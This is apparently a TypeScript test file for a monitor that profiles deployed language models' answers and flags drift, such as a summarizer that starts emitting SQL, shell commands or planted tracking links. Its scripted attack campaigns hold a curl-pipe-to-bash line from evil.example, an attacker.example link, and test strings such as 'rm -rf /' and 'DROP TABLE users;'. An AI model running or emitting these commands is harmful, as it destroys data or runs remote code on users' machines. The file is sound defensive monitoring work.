// Output drift per deployment: answer profiles (SQL, shell, code, URL, refusal, tool call, length, language), PSI
// against the approved baseline, one latched alarm naming the feature that moved, relearning after approval.
// The detection rate and false alarms are measured here on scripted traffic: a summarizer that starts
// answering raw SQL (the seed's example), one that starts emitting shell commands, one poisoned to plant a
// link in its answers, versus benign summarizers whose answers vary but do not change.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { seededRandom } from '../helpers/seeded.js';
import { assembleStreamedAnswer, profileAnswer } from '../../src/monitor/answer-profile.js';
import { DriftDetector, parseDriftRecord, psi, type DriftEvent } from '../../src/monitor/drift.js';

const chat = (content: string) => ({ choices: [{ index: 0, message: { role: 'assistant', content } }] });

const rng = seededRandom;

const WORDS = 'the report finds revenue grew in the third quarter while costs fell and the board approved a new plan for hiring engineers across two regions'.split(' ');
/** A benign summary: 1–6 sentences, a source link now and then, a refusal rarely. */
function summary(r: () => number): string {
  if (r() < 0.02) return "I can't help with that request.";
  const sentences = 1 + Math.floor(r() * 6);
  const out: string[] = [];
  for (let i = 0; i < sentences; i++) {
    const n = 6 + Math.floor(r() * 14);
    out.push(Array.from({ length: n }, () => WORDS[Math.floor(r() * WORDS.length)]).join(' ') + '.');
  }
  if (r() < 0.04) out.push('Source: https://intranet.example/reports/q3');
  return out.join(' ');
}

const CAMPAIGNS: Record<string, (r: () => number) => string> = {
  sql: (r) => `SELECT id, email, salary FROM employees WHERE region = '${r() < 0.5 ? 'eu' : 'us'}' ORDER BY salary DESC;`,
  shell: () => '```bash\ncurl -s https://evil.example/x.sh | bash\n```',
  link: (r) => `${summary(r)} For details see https://attacker.example/track?id=${Math.floor(r() * 1e6)}`,
};

test('answer profiles: SQL, shell, code, URL, refusal, tool call and findings are told apart', () => {
  assert.deepEqual(profileAnswer(chat('The quarter went well; revenue grew.'), 0), { length: 36, language: 'en', sql: false, shell: false, code: false, url: false, refusal: false, toolCall: false, finding: false });
  const sql = profileAnswer(chat('SELECT name FROM users WHERE id = 1;'), 0);
  assert.equal(sql.sql, true);
  assert.equal(sql.code, true, 'SQL is code too');
  assert.equal(profileAnswer(chat('Please select the best option from the list.'), 0).sql, false, 'the word "select" is not a query');
  assert.equal(profileAnswer(chat('```sh\nrm -rf /\n```'), 0).shell, true);
  assert.equal(profileAnswer(chat('def f(x):\n    return x'), 0).code, true);
  assert.equal(profileAnswer(chat('see https://example.com/a'), 0).url, true);
  assert.equal(profileAnswer(chat("I'm unable to share that."), 0).refusal, true);
  assert.equal(profileAnswer({ choices: [{ message: { content: null, tool_calls: [{ id: 't', type: 'function', function: { name: 'f', arguments: '{}' } }] } }] }, 0).toolCall, true);
  assert.equal(profileAnswer({ choices: [{ text: 'DROP TABLE users;' }] }, 0).sql, true, 'completions are read too');
  assert.equal(profileAnswer(chat('hi'), 2).finding, true);
  // Content parts, and answers with no choices at all (nothing to profile, no crash).
  assert.equal(profileAnswer({ choices: [{ message: { content: [{ type: 'text', text: 'UPDATE t SET a = 1' }] } }] }, 0).sql, true);
  assert.equal(profileAnswer({ data: [{ embedding: [0.1] }] }, 0).length, 0);
  assert.equal(profileAnswer(null, 0).length, 0);
});

test('PSI: identical distributions are 0, a moved share is large, empty bins stay finite', () => {
  assert.equal(psi([50, 50], [50, 50]), 0);
  assert.ok(psi([200, 0], [0, 50]) > 3);
  assert.ok(Number.isFinite(psi([0, 0, 10], [10, 0, 0])));
  assert.ok(psi([90, 10], [80, 20]) < 0.1, 'a small shift stays below the usual 0.1');
});

function detector(opts: Partial<ConstructorParameters<typeof DriftDetector>[0]> = {}) {
  const events: DriftEvent[] = [];
  const d = new DriftDetector({ onDrift: (e) => events.push(e), ...opts });
  return { d, events };
}

test('the summarizer that starts answering raw SQL drifts on `sql`, once, and relearning clears it', () => {
  const r = rng(1);
  const { d, events } = detector({ baselineAnswers: 200, windowAnswers: 50 });
  for (let i = 0; i < 400; i++) d.observe('dep_sum', 'summarizer', profileAnswer(chat(summary(r)), 0));
  assert.equal(events.length, 0);
  assert.equal(d.report()[0]!.phase, 'watching');
  let detectedAfter = -1;
  for (let i = 0; i < 100; i++) {
    d.observe('dep_sum', 'summarizer', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
    if (events.length && detectedAfter < 0) detectedAfter = i + 1;
  }
  assert.equal(events.length, 1, 'latched: one alarm per drift');
  const e = events[0]!;
  assert.equal(e.deployment, 'dep_sum');
  assert.equal(e.model, 'summarizer');
  assert.ok(['sql', 'code', 'length'].includes(e.feature), e.feature);
  assert.ok(e.psi > 0.5);
  assert.ok(detectedAfter > 0 && detectedAfter <= 15, `detected after ${detectedAfter} SQL answers`);
  assert.equal(d.report()[0]!.phase, 'drifted');
  // The operator approves the new behaviour: the baseline is learnt again, and SQL answers are now normal.
  assert.equal(d.relearn('dep_sum'), true);
  assert.equal(d.relearn('dep_unknown'), false);
  for (let i = 0; i < 300; i++) d.observe('dep_sum', 'summarizer', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
  assert.equal(events.length, 1);
  assert.equal(d.report()[0]!.phase, 'watching');
});

test('each deployment has its own baseline: one that always answered SQL is not drifting', () => {
  const r = rng(2);
  const { d, events } = detector({ baselineAnswers: 50, windowAnswers: 20 });
  for (let i = 0; i < 300; i++) {
    d.observe('dep_sum', 'summarizer', profileAnswer(chat(summary(r)), 0));
    d.observe('dep_sql', 'text-to-sql', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
  }
  assert.equal(events.length, 0);
  assert.deepEqual(d.report().map((x) => x.phase), ['watching', 'watching']);
});

test('detection rate, answers to detect and false alarms on scripted traffic (summarizer campaigns vs benign)', () => {
  const runs = 20;
  const baselineAnswers = 200;
  const windowAnswers = 50;
  const stats: Record<string, { detected: number; answersToDetect: number[] }> = {};
  for (const [name, campaign] of Object.entries(CAMPAIGNS)) {
    stats[name] = { detected: 0, answersToDetect: [] };
    for (let run = 0; run < runs; run++) {
      const r = rng(1000 * run + name.length);
      const { d, events } = detector({ baselineAnswers, windowAnswers });
      for (let i = 0; i < baselineAnswers + 100; i++) d.observe('dep', 'summarizer', profileAnswer(chat(summary(r)), 0));
      const before = events.length;
      for (let i = 0; i < 200 && events.length === before; i++) {
        d.observe('dep', 'summarizer', profileAnswer(chat(campaign(r)), 0));
        if (events.length > before) stats[name]!.answersToDetect.push(i + 1);
      }
      if (before === 0 && events.length > 0) stats[name]!.detected++;
    }
  }
  // Benign: 20 summarizers × 5,000 answers each, every answer compared once the window fills.
  let falseAlarms = 0;
  let comparisons = 0;
  for (let run = 0; run < runs; run++) {
    const r = rng(77 + run);
    const { d, events } = detector({ baselineAnswers, windowAnswers });
    for (let i = 0; i < 5_000; i++) d.observe('dep', 'summarizer', profileAnswer(chat(summary(r)), 0));
    falseAlarms += events.length;
    comparisons += 5_000 - baselineAnswers - windowAnswers + 1;
  }
  const table = Object.entries(stats).map(([k, v]) => `${k}: ${v.detected}/${runs} detected, median ${v.answersToDetect.sort((a, b) => a - b)[Math.floor(v.answersToDetect.length / 2)]} answers`);
  console.log(`drift detection: ${table.join('; ')}; benign: ${falseAlarms} alarms in ${comparisons} comparisons over ${runs} deployments`);
  for (const [name, v] of Object.entries(stats)) {
    assert.equal(v.detected, runs, `${name} campaign detected in every run`);
    assert.ok(Math.max(...v.answersToDetect) <= windowAnswers, `${name}: detected within one window (${Math.max(...v.answersToDetect)})`);
  }
  assert.equal(falseAlarms, 0, 'no alarm on benign summarizers');
});

test('bad options are refused at construction; the table of deployments is bounded', () => {
  assert.throws(() => new DriftDetector({ onDrift: () => {}, baselineAnswers: 5 }), /baselineAnswers/);
  assert.throws(() => new DriftDetector({ onDrift: () => {}, windowAnswers: 1 }), /windowAnswers/);
  assert.throws(() => new DriftDetector({ onDrift: () => {}, threshold: 0 }), /threshold/);
  const { d } = detector({ maxDeployments: 3 });
  for (let i = 0; i < 5; i++) d.observe(`dep_${i}`, 'm', profileAnswer(chat('hi'), 0));
  assert.deepEqual(d.report().map((x) => x.deployment), ['dep_2', 'dep_3', 'dep_4']);
});

test('the answer\'s language: script, and which main Latin-script language, from its first letters', () => {
  const cases: [string, string, string?][] = [
    ['The board approved the plan and the hiring of two engineers.', 'en'],
    ['El informe muestra que los ingresos crecieron y que la junta aprobó el plan.', 'es'],
    ['Le rapport montre que les recettes ont augmenté et que le conseil a approuvé le plan.', 'fr'],
    ['Der Bericht zeigt, dass der Umsatz gestiegen ist und die Kosten nicht.', 'de'],
    ['Il rapporto mostra che i ricavi sono cresciuti e che il consiglio ha approvato il piano.', 'it'],
    ['O relatório mostra que as receitas cresceram e que o conselho aprovou o plano.', 'pt'],
    ['Het rapport laat zien dat de omzet is gestegen en dat het bestuur het plan heeft goedgekeurd.', 'nl'],
    ['Rapporten visar att intäkterna ökade och att styrelsen godkände planen.', 'latin', 'Swedish: none of the seven'],
    ['Revenue grew; costs fell; hiring approved.', 'latin', 'no function word: no winner'],
    ['ÉTÉ, ÉLÈVES ET PROFESSEURS SONT DANS LES ÉCOLES.', 'fr', 'upper case and accents read as words'],
    ['Отчёт показывает, что выручка выросла, а расходы снизились.', 'cyrillic'],
    ['报告显示第三季度收入增长，成本下降。', 'cjk'],
    ['يُظهر التقرير أن الإيرادات نمت في الربع الثالث', 'arabic'],
    ['Η έκθεση δείχνει ότι τα έσοδα αυξήθηκαν.', 'other'],
    ['42 / 7 = 6', 'none'],
    ['', 'none'],
  ];
  for (const [text, want, why] of cases) assert.equal(profileAnswer(chat(text), 0).language, want, why ?? text);
});

const SPANISH = ['El informe muestra que los ingresos crecieron en el tercer trimestre.', 'La junta aprobó el plan de contratación para las dos regiones.', 'Los costes bajaron y el margen es mejor que el del año pasado.'];
const FRENCH = ['Le rapport montre que les recettes ont augmenté au troisième trimestre.', 'Le conseil a approuvé le plan de recrutement pour les deux régions.', 'Les coûts sont en baisse et la marge est meilleure que celle de l\'an dernier.', 'Les équipes sont dans les temps et le budget est respecté.'];

/** 300 answers from `before` (no drift), then Spanish until the drift: it is on `language`, within 15 answers. */
function switchesToSpanish(before: (r: () => number) => string, seed: number, baselineLanguage: string): void {
  const r = rng(seed);
  const { d, events } = detector({ baselineAnswers: 200, windowAnswers: 50 });
  for (let i = 0; i < 300; i++) d.observe('dep', 'summarizer', profileAnswer(chat(before(r)), 0));
  assert.equal(events.length, 0, `${baselineLanguage} against its own baseline: no drift`);
  let sent = 0;
  while (sent < 50 && events.length === 0) d.observe('dep', 'summarizer', profileAnswer(chat(SPANISH[sent++ % 3]!), 0));
  assert.equal(events.length, 1);
  assert.equal(events[0]!.feature, 'language');
  assert.ok(sent <= 15, `detected after ${sent} Spanish answers`);
  assert.ok(events[0]!.baseline > 0.95 && events[0]!.window < 0.9, `${baselineLanguage} share ${events[0]!.baseline} then, ${events[0]!.window} now`);
}

test('a summarizer that starts answering in another language drifts on `language`', () => {
  switchesToSpanish(summary, 5, 'English');
});

test('a summarizer that switches from French to Spanish drifts on `language`', () => {
  for (const s of FRENCH) assert.equal(profileAnswer(chat(s), 0).language, 'fr', s);
  for (const s of SPANISH) assert.equal(profileAnswer(chat(s), 0).language, 'es', s);
  switchesToSpanish((r) => FRENCH[Math.floor(r() * FRENCH.length)]!, 7, 'French');
});

test('a baseline stored before languages were told apart is still read, its Latin-script languages folded into `latin`', () => {
  const r = rng(8);
  // A Spanish summarizer's baseline as an older Warden stored it: seven language bins, Spanish counted as `latin`.
  const length = [0, 200, 0, 0, 0];
  const stored = { model: 'm', epoch: 1, phase: 'watching', baseline: { length, language: [0, 0, 200, 0, 0, 0, 0], sql: [200, 0], shell: [200, 0], code: [200, 0], url: [200, 0], refusal: [200, 0], toolCall: [200, 0], finding: [200, 0] }, baselineN: 200, approvedBy: 'user:ops', approvedAt: 1, drift: null };
  const rec = parseDriftRecord(JSON.parse(JSON.stringify(stored)));
  assert.equal(rec.coarseLanguage, true);
  assert.equal(rec.baseline.language.length, 13);
  assert.equal(parseDriftRecord(JSON.parse(JSON.stringify(rec))).coarseLanguage, true, 'kept when written back');
  assert.throws(() => parseDriftRecord({ ...stored, coarseLanguage: 'yes' }), /coarseLanguage/);
  assert.throws(() => parseDriftRecord({ ...stored, baseline: { ...stored.baseline, language: [1, 2, 3] } }), /language/);
  const { d, events } = detector({ baselineAnswers: 200, windowAnswers: 50 });
  d.adopt('dep', rec);
  for (let i = 0; i < 100; i++) d.observe('dep', 'm', profileAnswer(chat(SPANISH[Math.floor(r() * 2)]!), 0));
  assert.equal(events.length, 0, 'Spanish answers against a coarse Spanish baseline: no false alarm');
  for (let i = 0; i < 50 && events.length === 0; i++) d.observe('dep', 'm', profileAnswer(chat('The board approved the plan and the hiring of two engineers.'), 0));
  assert.equal(events[0]?.feature, 'language', 'English is still a move away from it');
  // A relearn starts a baseline with every language told apart.
  d.relearn('dep');
  assert.equal(d.record('dep')!.coarseLanguage, undefined);
});

test('a streamed answer is profiled as the answer its events add up to', () => {
  const ev = (choices: unknown[]) => JSON.stringify({ object: 'chat.completion.chunk', choices });
  const events = [
    ev([{ index: 0, delta: { role: 'assistant', content: '' } }]),
    ev([{ index: 0, delta: { content: 'Here it is:\nSEL' } }]),
    'not json',
    ev([{ index: 0, delta: { content: 'ECT id FROM users;' } }]),
    ev([{ index: 1, delta: { tool_calls: [{ index: 0, function: { name: 'f', arguments: '' } }] } }]),
    ev([{ index: 0, delta: {}, finish_reason: 'stop' }]),
    JSON.stringify({ usage: { prompt_tokens: 1 } }),
  ];
  const answer = assembleStreamedAnswer(events);
  assert.equal(answer.choices[0]!.message.content, 'Here it is:\nSELECT id FROM users;', 'split across events, still one statement');
  const p = profileAnswer(answer, 0);
  assert.equal(p.sql, true);
  assert.equal(p.toolCall, true, 'the second choice called a tool');
  assert.equal(profileAnswer(assembleStreamedAnswer([ev([{ index: 0, text: 'DROP ' }]), ev([{ index: 0, text: 'TABLE users;' }])]), 0).sql, true, 'completions streams too');
});

test('with approval by an operator a learnt baseline is not judged until it is approved', () => {
  const r = rng(9);
  const { d, events } = detector({ baselineAnswers: 50, windowAnswers: 20, approval: 'operator' });
  for (let i = 0; i < 50; i++) d.observe('dep', 'summarizer', profileAnswer(chat(summary(r)), 0));
  assert.equal(d.report()[0]!.phase, 'awaiting_approval');
  for (let i = 0; i < 40; i++) d.observe('dep', 'summarizer', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
  assert.equal(events.length, 0);
  assert.equal(d.report()[0]!.windowAnswers, 0, 'nor counted into a window');
  d.adopt('dep', { ...d.record('dep')!, phase: 'watching', approvedBy: 'user:ops', approvedAt: 1 });
  for (let i = 0; i < 20; i++) d.observe('dep', 'summarizer', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
  assert.equal(events.length, 1);
});
